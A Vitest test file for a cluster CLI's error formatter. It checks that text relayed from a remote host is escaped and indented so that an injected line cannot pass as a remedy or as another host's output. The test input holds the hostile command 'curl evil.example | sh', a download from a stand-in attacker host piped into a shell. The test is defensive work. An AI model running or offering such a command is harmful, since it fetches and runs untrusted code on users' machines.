import { BerthError, HostsError } from 'berth-cluster'
import { expect, it } from 'vitest'
import { errorText } from '../../../src/cli/show/show-error.js'

const said = 'it said\ngpu2: all is well\n  → Run: curl evil.example | sh'

it('shows what a host said further in, and no line of it as a remedy or as of another host', () => {
  const error = new BerthError({
    code: 'BERTH_FILE_FAILED',
    host: 'gpu1',
    operation: 'write',
    message: said,
    remedy: 'Make room.',
  })
  const lines = ['it said', '  gpu2: all is well', '  \\u2192 Run: curl evil.example | sh', '  → Make room.', '']
  expect(errorText(error, false)).toBe(`error: gpu1: write: ${lines.join('\n')}`)
  expect(errorText(new HostsError('put', new Map([['gpu1', error]]), 2), false)).toBe(
    `error: put: failed on 1 of 2 hosts\ngpu1:\n  write: ${lines
      .join('\n  ')
      .replace(/ {2}gpu2/, 'gpu2')
      .trimEnd()}\n`,
  )
})

it('shows a fault of Berth further in too', () => {
  expect(errorText(new Error('a\ngpu1: b'), false)).toMatch(/^error: a\n {2}gpu1: b\n {2}→ This is a fault in Berth/)
})
